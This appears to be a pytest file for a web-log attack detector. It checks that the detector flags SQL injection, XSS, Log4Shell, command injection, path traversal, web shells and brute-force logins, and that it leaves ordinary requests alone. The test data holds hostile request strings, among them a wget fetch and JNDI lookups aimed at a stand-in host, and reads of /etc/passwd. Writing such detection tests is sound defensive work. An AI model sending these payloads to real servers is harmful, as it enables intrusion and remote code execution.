"""Web への攻撃を見つける。"""

from __future__ import annotations

from pathlib import Path

import pytest

from hikeshi.engines.logs.report import Finding
from tests.engines.logs.reading import find, web


def one(folder: Path, kind: str, *lines: str) -> Finding:
    (found,) = find(folder, list(lines), kind)
    return found


@pytest.mark.parametrize(
    ("request_line", "variant"),
    [
        ("GET /i?id=1%20UNION%20SELECT%201,2", "sqli"),
        ("GET /i?id=1+union/**/select+1", "sqli"),
        ("GET /i?u=admin'%20or%20'1'='1", "sqli"),
        ("GET /q?x=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
        ("GET /q?x=%253Cscript%253E", "xss"),
        ("GET /?x=${jndi:ldap://192.0.2.1/a}", "log4shell"),
        ("GET /?x=$%7Bjndi:$%7Blower:l%7Ddap://192.0.2.1/a%7D", "log4shell"),
        ("GET /ping?h=127.0.0.1;cat%20/x", "command"),
        ("GET /s?x=$(echo${IFS}aWQ=)", "command"),
        ("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "phpcode"),
        ("GET /?class.module.classLoader.URLs%5B0%5D=0", "template"),
        ("GET /s.php?lang=http://192.0.2.1/inc.txt?", "rfi"),
    ],
)
def test_injections_are_found_through_their_disguises(tmp_path: Path, request_line: str, variant: str) -> None:
    """注入の要求を、符号化をほどいて見つけ、断られていれば失敗とする。"""
    found = one(tmp_path, "web_injection", web(request_line, 404))
    assert found.variant == variant
    assert found.success == ("unknown" if variant == "log4shell" else "no")


def test_an_injection_that_was_answered_stays_open(tmp_path: Path) -> None:
    """200 が返っていても、成功とは言い切らない。"""
    found = one(tmp_path, "web_injection", web("GET /s?x=;wget%20http://192.0.2.1/x", 200))
    assert (found.success, found.level) == ("unknown", "high")
    assert "application_log" in found.settle


def test_log4shell_in_the_agent_is_found(tmp_path: Path) -> None:
    """道具の名に仕込まれた攻撃も見つける。"""
    assert one(tmp_path, "web_injection", web("GET /", 404, agent="${jndi:dns://192.0.2.1}")).success == "unknown"


@pytest.mark.parametrize(
    "request_line",
    [
        "GET /search?q=select+a+union+hotel",
        "GET /search?q=%E8%84%9A%E6%9C%AC",
        "GET /blog/how-to-use-cat-and-id-commands",
        "GET /shop?sort=price;asc",
        "GET /help?topic=javascript",
        "GET /a?next=https://shop.example.jp/cart",
        "GET /item?name=O'Reilly%20and%20Sons",
        "GET /list.cgi?page=2;id=5;sort=date",
        "GET /w/api.php?fields=name|id|mail",
        "GET /man/system(3)",
        "GET /man/sleep(3)",
        "GET /search?query=id",
        "GET /sitemap.xml.gz",
        "GET /downloads/website-template.zip",
        "GET /info.php",
        "GET /alfa.php",
        "GET /blog/2026/11/how-to-write-php-code",
        "GET /server-status?auto",
    ],
)
def test_ordinary_requests_are_nothing(tmp_path: Path, request_line: str) -> None:
    """ふつうの要求を、攻撃とは言わない。"""
    assert find(tmp_path, [web(request_line, 200)]) == []


@pytest.mark.parametrize(
    "request_line",
    ["GET /cgi-bin/bbs.cgi", "GET /hudson-river-tour", "GET /script/menu.js", "GET /sdk-guide", "GET /old"],
)
def test_what_is_no_longer_there_is_nothing(tmp_path: Path, request_line: str) -> None:
    """なくなったページへの要求を、探りとは言わない。"""
    assert find(tmp_path, [web(request_line, 404, second=i) for i in range(5)]) == []


def test_an_answer_of_the_front_page_is_not_the_gravest(tmp_path: Path) -> None:
    """表紙は何を付けても 200 と答えるので、重大とまでは言わない。"""
    assert one(tmp_path, "web_injection", web("GET /?x=;wget%20http://192.0.2.1/x", 200)).level == "medium"


def test_versions_of_parts_are_no_flood(tmp_path: Path) -> None:
    """部品に付いた版の番号を、止める攻撃とは言わない。"""
    assert find(tmp_path, [web(f"GET /p{i}.js?{10**9 + i}", 200, second=i // 10) for i in range(60)]) == []


def test_weak_words_count_only_in_numbers(tmp_path: Path) -> None:
    """あやしい言葉ひとつでは足りず、重なって初めて攻撃とする。"""
    words = ["md5(", "hex(", "substr(", "upper(", "distinct("]
    lines = [web(f"GET /q?a={word}", 404, second=i) for i, word in enumerate(words)]
    assert find(tmp_path, lines[:4], "web_injection") == []
    assert one(tmp_path, "web_injection", *lines).confidence == "medium"


@pytest.mark.parametrize(
    "request_line",
    [
        "GET /cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh",
        "GET /%252e%252e%252f%252e%252e%252fetc/x",
        "GET /a?f=..%c0%af..%c0%afetc",
        "GET /view?file=/etc/passwd",
        "GET /etc/passwd%3f",
        "GET /s/_/;/WEB-INF/web.xml",
    ],
)
def test_traversal_is_found_through_its_disguises(tmp_path: Path, request_line: str) -> None:
    """公開フォルダの外を読む要求を、符号化をほどいて見つける。"""
    assert one(tmp_path, "path_traversal", web(request_line, 400)).success == "no"


def test_traversal_that_got_bytes_is_grave_but_open(tmp_path: Path) -> None:
    """中身が返っていれば重大だが、何が返ったかはログでは分からないとする。"""
    found = one(tmp_path, "path_traversal", web("GET /v?f=../../../../etc/passwd", 200, size=1800))
    assert (found.success, found.level, found.variant) == ("unknown", "high", "answered")


def test_search_for_shells_is_no_intrusion(tmp_path: Path) -> None:
    """探されただけなら、侵入とは言わない。"""
    assert one(tmp_path, "web_shell", web("GET /wso.php", 404)).variant == "sought"


def test_shell_in_use_is_grave(tmp_path: Path) -> None:
    """置き場所のプログラムが繰り返し使われていれば、重大とする。"""
    lines = [web("POST /wp-content/uploads/2026/11/x.php", 200, second=i) for i in range(4)]
    found = one(tmp_path, "web_shell", *lines)
    assert (found.variant, found.level, found.success) == ("used", "high", "unknown")
    assert found.params["target"] == "/wp-content/uploads/2026/11/x.php"


def test_shell_after_an_upload_is_told_so(tmp_path: Path) -> None:
    """送り込みの後に答えたことを、つなげて示す。"""
    lines = [
        web("POST /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", 200),
        web("GET /wp-content/uploads/x.php", 200, second=9),
    ]
    assert one(tmp_path, "web_shell", *lines).variant == "uploaded"


def test_the_silent_index_of_wordpress_is_no_shell(tmp_path: Path) -> None:
    """WordPress がはじめから置く index.php は、数えない。"""
    assert find(tmp_path, [web("GET /wp-content/uploads/index.php", 200)], "web_shell") == []


def guesses(n: int, status: int = 200, every: int = 2) -> list[str]:
    return [web("POST /wp-login.php", status, second=i * every, size=5364) for i in range(n)]


def test_guessing_at_wordpress_is_found(tmp_path: Path) -> None:
    """WordPress の総当たりを見つけ、成功の印がなければそう言う。"""
    found = one(tmp_path, "wordpress_login", *guesses(12))
    assert (found.success, found.attempts) == ("no", 12)


def test_entering_wordpress_needs_two_signs(tmp_path: Path) -> None:
    """別の画面へ送られ、管理画面が開いて初めて、成功とする。"""
    way_on = web("POST /wp-login.php", 302, second=60)
    assert one(tmp_path, "wordpress_login", *guesses(12), way_on).success == "unknown"
    inside = web("GET /wp-admin/", 200, second=61, size=40_000)
    found = one(tmp_path, "wordpress_login", *guesses(12), way_on, inside)
    assert (found.success, found.level) == ("yes", "high")
    assert any("/wp-admin/" in s.raw for s in found.samples)


def test_signing_in_to_wordpress_once_is_nothing(tmp_path: Path) -> None:
    """ふつうのログインは、何でもない。"""
    lines = [web("POST /wp-login.php", 302), web("GET /wp-admin/", 200, second=1)]
    assert find(tmp_path, lines) == []


def test_xmlrpc_stays_open(tmp_path: Path) -> None:
    """XML-RPC は成否が同じ番号なので、分からないとする。"""
    found = one(tmp_path, "wordpress_login", *[web("POST /xmlrpc.php", 200, second=i) for i in range(10)])
    assert (found.variant, found.success) == ("xmlrpc", "unknown")


def test_listing_users_of_wordpress_is_found(tmp_path: Path) -> None:
    """利用者名を順に調べる動きを見つける。"""
    assert one(tmp_path, "wordpress_login", *[web(f"GET /?author={i}", 404, second=i) for i in range(1, 7)])
    assert find(tmp_path, [web("GET /?author=1", 200, second=i) for i in range(9)], "wordpress_login") == []


def test_a_crowd_at_wordpress_is_found(tmp_path: Path) -> None:
    """少しずつ試す多数の接続元を、まとめて見つける。"""
    lines = [web("POST /wp-login.php", 200, second=i * 60, address=f"198.51.100.{i}") for i in range(1, 31)]
    assert one(tmp_path, "wordpress_login", *lines).variant == "crowd"


SECRETS = ["/.env", "/.git/config", "/backup.sql", "/wp-config.php.bak"]


def test_search_for_secrets_is_found(tmp_path: Path) -> None:
    """設定やバックアップを探す動きを見つける。"""
    found = one(tmp_path, "sensitive_files", *[web(f"GET {s}", 404, second=i) for i, s in enumerate(SECRETS)])
    assert (found.variant, found.success) == ("sought", "no")


def test_a_secret_that_was_handed_out_is_grave(tmp_path: Path) -> None:
    """ほかは断られ、一つだけ中身が渡っていれば、重大とする。"""
    lines = [web(f"GET {s}", 404, second=i) for i, s in enumerate(SECRETS[1:])]
    found = one(tmp_path, "sensitive_files", *lines, web("GET /.env", 200, second=9, size=912))
    assert (found.variant, found.success, found.level) == ("handed", "yes", "high")


def test_a_site_that_answers_everything_alike_is_told_so(tmp_path: Path) -> None:
    """何にでも同じページを返すサイトなら、渡したとは言わない。"""
    found = one(tmp_path, "sensitive_files", *[web(f"GET {s}", 200, size=4096) for s in SECRETS])
    assert (found.variant, found.success, found.confidence) == ("same_page", "unknown", "low")


def test_well_known_files_are_nothing(tmp_path: Path) -> None:
    """証明書の手続きなどの正しい要求は、数えない。"""
    assert find(tmp_path, [web("GET /.well-known/acme-challenge/x", 200)] * 5) == []


def test_guessing_at_basic_authentication_is_found(tmp_path: Path) -> None:
    """Basic 認証の総当たりと、その後に通ったことを見つける。"""
    lines = [web("GET /admin/", 401, second=i, user="admin") for i in range(8)]
    assert one(tmp_path, "http_bruteforce", *lines).success == "no"
    found = one(tmp_path, "http_bruteforce", *lines, web("GET /admin/", 200, second=20, user="admin"))
    assert (found.success, found.variant, found.accounts) == ("yes", "success", ["admin"])


def test_questions_for_a_password_are_nothing(tmp_path: Path) -> None:
    """名前のない 401 は、たずねられただけで、失敗ではない。"""
    lines = []
    for i in range(20):
        lines += [web("GET /dav/", 401, second=i), web("GET /dav/", 207, second=i, user="hanako")]
    assert find(tmp_path, lines, "http_bruteforce") == []


def test_log_in_pages_are_watched(tmp_path: Path) -> None:
    """ログイン画面への続けざまの送信を見つける。"""
    found = one(tmp_path, "http_bruteforce", *[web("POST /apps/login", 200, second=i, size=1950) for i in range(8)])
    assert (found.variant, found.success) == ("form", "unknown")


def test_scanners_are_found_by_name_and_by_misses(tmp_path: Path) -> None:
    """弱点探しを、道具の名と、空振りの多さから見つける。"""
    assert one(tmp_path, "web_scanner", web("GET /", 200, agent="sqlmap/1.8")).variant == "tool"
    misses = [web(f"GET /page{i}", 404, second=i) for i in range(12)]
    assert one(tmp_path, "web_scanner", *misses).variant == "misses"
    assert find(tmp_path, [web("GET /old-page", 404, second=i) for i in range(50)], "web_scanner") == []
    assert find(tmp_path, [web(f"GET /img/{i}.png", 404, second=i) for i in range(50)], "web_scanner") == []


def test_a_product_that_is_there_is_not_probed(tmp_path: Path) -> None:
    """使っている製品を開いた要求は、探りとは言わない。"""
    assert find(tmp_path, [web("GET /phpmyadmin/", 200)]) == []
    assert one(tmp_path, "web_scanner", web("GET /phpmyadmin/", 404)).variant == "probe"


def test_a_flood_is_found(tmp_path: Path) -> None:
    """控えの効かない大量の要求を見つける。"""
    lines = [web(f"GET /?{10**9 + i}", 200, second=i // 10) for i in range(60)]
    assert one(tmp_path, "web_flood", *lines).events == 60


def test_changing_names_are_a_flood(tmp_path: Path) -> None:
    """名乗りを次々に変える大量の要求を見つける。"""
    lines = [web("GET /", 200, second=i // 12, agent=f"Mozilla/5.0 ({i % 30})") for i in range(100)]
    assert one(tmp_path, "web_flood", *lines).variant == "flood"


def test_page_after_page_is_told_calmly(tmp_path: Path) -> None:
    """休みなくページをたどる動きは、参考として知らせる。"""
    lines = [web(f"GET /p{i}.html", 200, second=i // 10) for i in range(60)]
    found = one(tmp_path, "web_flood", *lines)
    assert (found.variant, found.level) == ("pages", "low")
    visits = [web(f"GET /p{i}.html", 200, second=i // 10, referer="https://shop.example.jp/") for i in range(60)]
    assert find(tmp_path, visits) == []


def test_what_nginx_held_back_is_found(tmp_path: Path) -> None:
    """nginx が抑えた要求を見つける。"""
    line = (
        '2026/11/23 10:00:00 [error] 1#1: *2 limiting requests, excess: 0.4 by zone "a", client: 203.0.113.5, '
        'server: shop.example.jp, request: "GET / HTTP/1.1"'
    )
    assert one(tmp_path, "web_flood", *[line] * 6).variant == "limited"


def test_search_for_administration_is_found(tmp_path: Path) -> None:
    """管理画面を探し回る動きを見つけ、一度きりの間違いは数えない。"""
    pages = [web(f"GET /{p}/", 404, second=i) for i, p in enumerate(("admin", "administrator", "cpanel", "webadmin"))]
    assert find(tmp_path, pages[:2]) == []
    assert one(tmp_path, "web_scanner", *pages).variant == "probe"


def test_failed_requests_in_the_error_log_are_found(tmp_path: Path) -> None:
    """エラーログに残った要求からも、攻撃を見つける。"""
    line = (
        "[Mon Nov 23 10:00:01.25 2026] [core:error] [pid 7:tid 1] [client 203.0.113.5:145] "
        "AH00126: Invalid URI in request GET /cgi-bin/.%2E/%2E%2E/%2E%2E/etc/passwd HTTP/1.1"
    )
    assert one(tmp_path, "path_traversal", line).addresses == ["203.0.113.5"]


def test_alarms_of_the_firewall_are_passed_on(tmp_path: Path) -> None:
    """WAF の警報を、そのまま知らせる。"""
    line = (
        "2026/11/23 10:00:00 [error] 1#1: *2 [client 203.0.113.5] ModSecurity: Access denied with code 403 (phase 2)."
        ', client: 203.0.113.5, server: shop.example.jp, request: "GET / HTTP/1.1"'
    )
    assert one(tmp_path, "waf_alert", line).variant == "denied"


def test_who_only_failed_shares_a_finding(tmp_path: Path) -> None:
    """成功のない者たちは、一つにまとめて示す。"""
    lines = [web("GET /wso.php", 404, address=f"198.51.100.{i}") for i in range(40)]
    found = one(tmp_path, "web_shell", *lines)
    assert (len(found.addresses), len(found.actors)) == (40, 40)


def day_of_an_editor(wrong: int = 0, start: int = 0, address: str = "198.51.100.7") -> list[str]:
    """Somebody who logs in ten times a day, once after mistyping."""
    lines = []
    for i in range(10):
        at = start + i * 900
        misses = wrong if i == 5 else 0
        lines += [web("POST /wp-login.php", 200, second=at - 40 + n, address=address) for n in range(misses)]
        lines.append(web("POST /wp-login.php", 302, second=at + 1, address=address))
        lines.append(web("GET /wp-admin/", 200, second=at + 2, address=address))
    return lines


def test_an_editors_day_is_no_guessing(tmp_path: Path) -> None:
    """管理画面に一日に何度も入る人は、総当たりではない。打ち間違いがあっても同じである。"""
    assert find(tmp_path, [*day_of_an_editor(), *day_of_an_editor(wrong=3, start=20_000)], "wordpress_login") == []


def test_an_editor_who_forgot_the_password_is_asked(tmp_path: Path) -> None:
    """前から入っていた接続元が多く失敗した後に入ったら、侵入とは言わず、確かめるように言う。"""
    (one,) = find(tmp_path, day_of_an_editor(wrong=12), "wordpress_login")
    assert (one.variant, one.success, one.level) == ("redirected", "unknown", "medium")


def test_an_editor_is_no_member_of_a_crowd(tmp_path: Path) -> None:
    """多くの接続元が少しずつ試していても、その中に、打ち間違えた編集者は数えない。"""
    crowd = [web("POST /wp-login.php", 200, second=i * 60, address=f"203.0.113.{i}") for i in range(1, 31)]
    (one,) = find(tmp_path, [*crowd, *day_of_an_editor(wrong=2)], "wordpress_login")
    assert (one.variant, one.level, len(one.addresses)) == ("crowd", "low", 30)
    assert "198.51.100.7" not in one.addresses
